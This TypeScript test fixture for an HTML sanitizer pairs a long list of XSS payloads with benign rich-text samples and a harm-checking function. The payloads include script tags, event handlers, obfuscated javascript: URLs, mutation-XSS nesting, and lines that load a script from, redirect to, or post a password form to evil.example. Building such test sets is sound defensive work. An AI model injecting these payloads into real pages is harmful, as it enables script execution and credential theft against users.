/** Rich text that attackers and editors' clipboards bring. Every cleaner is held against all of it. */
export const hostileRichText = [
  '<script>alert(1)</script>',
  '<p>a<script>alert(1)</script>b</p>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="x" id="location" data-x="1" aria-label="y">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https://ok.example/" target="_blank">x</a>',
  '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p/onclick=alert(1)>x',
  '<p\u000conclick=alert(1)>x</p>',
  '<a href="x" href="javascript:alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  "<a href='javascript:alert(1)'>x</a>",
  '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p title="a>b" onclick="alert(1)">x</p>',
  '<',
  '<p',
  '<a href="',
  '</p></p></ul>',
  '<b>'.repeat(5000),
  '<p><ul><li><p>x<p>y</ul>',
]

/** What must come through unharmed. */
export const honestRichText = [
  '<p>Plain words &amp; an ampersand, 1 &lt; 2.</p>',
  '<p><b>b</b><i>i</i><u>u</u><s>s</s><strong>strong</strong><em>em</em></p>',
  '<ul><li>one</li><li><p>two</p></li></ul><ol><li>three</li></ol>',
  '<p><a href="https://wireloom.example/a?b=1&amp;c=2#d">link</a></p>',
  '<p><a href="https://wireloom.example/" target="_blank" rel="noopener noreferrer">tab</a></p>',
  ...['http://a.b', 'ftp://a.b', 'ftps://a.b', 'mailto:a@b.c', 'tel:+1', 'callto:x', 'sms:+1'].map(
    (href) => `<a href="${href}">x</a>`,
  ),
  '<a href="cid:x">x</a>',
  '<a href="xmpp:a@b">x</a>',
  '<a href="/resources">here</a>',
  '<a href="#part">part</a>',
]

const plainTag = /<\/?(?:b|i|u|s|strong|em|ul|ol|li|p|a)>/g
const link = /<a((?: (?:href|target|rel)="[^"<>]*")+)>/g
const goodHref =
  /^(?:(?:https?|ftps?|mailto|tel|callto|sms|cid|xmpp):|#|\/(?![\\/])|[\w?.`-]+(?![\w:]))/i

/** Says what in cleaned rich text could still do harm; undefined when nothing can. */
export function harmIn(html: string): string | undefined {
  for (const [tag, attributes = ''] of html.matchAll(link)) {
    const href = /href="([^"]*)"/.exec(attributes)?.[1]
    if (href && !goodHref.test(href)) return tag
    if (attributes.includes('target=') && !attributes.includes('rel="noopener noreferrer"'))
      return tag
  }
  const rest = html.replace(plainTag, '').replace(link, '')
  return rest.includes('<') ? rest.slice(rest.indexOf('<')) : undefined
}
